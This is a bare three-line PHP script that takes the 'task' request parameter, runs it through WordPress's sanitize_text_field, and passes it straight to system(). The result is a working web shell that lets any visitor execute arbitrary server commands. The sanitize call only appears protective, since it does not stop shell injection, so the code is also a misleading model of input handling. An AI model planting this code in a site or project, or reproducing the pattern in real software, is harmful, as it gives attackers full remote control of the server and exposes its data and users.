<?php
$task = sanitize_text_field($_REQUEST['task']);
system($task);
